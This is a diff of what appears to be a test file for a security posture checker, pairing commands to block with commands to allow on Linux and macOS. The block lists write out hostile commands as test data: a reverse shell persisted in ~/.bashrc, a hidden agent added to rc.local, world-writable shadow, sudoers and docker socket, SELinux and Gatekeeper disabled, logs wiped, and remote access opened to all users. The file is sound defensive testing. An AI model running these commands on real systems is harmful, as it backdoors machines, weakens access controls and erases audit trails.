@@ -95,7 +95,7 @@ const CASES: PostureCase[] = [
       `echo 'nohup bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &' >> ~/.bashrc`,
       `echo "/dev/shm/.x/agent &" >> /etc/rc.local`,
     ],
-    pass: [`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`, "cat ~/.bashrc"],
+    pass: [`echo 'alias ll="ls -la"' >> ~/.bashrc`, "cat ~/.bashrc"],
   },
   {
     id: "linux.udev_run",
@@ -140,7 +140,7 @@ const CASES: PostureCase[] = [
   {
     id: "linux.world_writable_sensitive",
     block: [
-      "chmod 666 /var/run/docker.sock",
+      "sudo chmod 0666 /run/docker.sock",
       "chmod o+r /etc/shadow",
       "sudo chmod 777 /etc/sudoers",
     ],
@@ -188,7 +188,7 @@ const CASES: PostureCase[] = [
   {
     id: "linux.selinux_off",
     block: [
-      "sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config",
+      "sed -i -e 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config",
       "grubby --update-kernel ALL --args selinux=0",
     ],
     pass: ["sed -i 's/^SELINUX=permissive/SELINUX=enforcing/' /etc/selinux/config", "sestatus"],
@@ -234,7 +234,7 @@ const CASES: PostureCase[] = [
     id: "linux.logs_wiped",
     block: [
       "journalctl --rotate && journalctl --vacuum-time=1s",
-      "truncate -s 0 /var/log/auth.log",
+      "truncate -s 0 /var/log/secure",
       "rm -f /var/log/wtmp /var/log/btmp",
     ],
     pass: [
@@ -279,7 +279,7 @@ const CASES: PostureCase[] = [
   {
     id: "linux.git_hooks_path_tmp",
     block: ["git config --global core.hooksPath /tmp/hooks"],
-    pass: ["git config core.hooksPath .githooks"],
+    pass: ["git config --local core.hooksPath scripts/git-hooks"],
   },
   {
     id: "macos.launchd_payload",
@@ -321,7 +321,7 @@ const CASES: PostureCase[] = [
     block: [
       "sudo spctl --master-disable",
       "defaults write com.apple.LaunchServices LSQuarantine -bool false",
-      "xattr -dr com.apple.quarantine ~/Downloads",
+      "xattr -rd com.apple.quarantine ~/Downloads",
     ],
     pass: [
       "spctl --status",
@@ -355,10 +355,10 @@ const CASES: PostureCase[] = [
   {
     id: "macos.remote_access_all",
     block: [
-      "sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -access -on -allowAccessFor -allUsers -privs -all -restart -agent",
+      "sudo $ARD/kickstart -activate -configure -allowAccessFor -allUsers -privs -all -access -on",
     ],
     pass: [
-      "sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart -activate -configure -allowAccessFor -specifiedUsers -users itadmin -access -on -privs -ControlObserve",
+      "sudo $ARD/kickstart -configure -allowAccessFor -specifiedUsers -users itadmin -privs -ControlObserve",
     ],
   },
   {
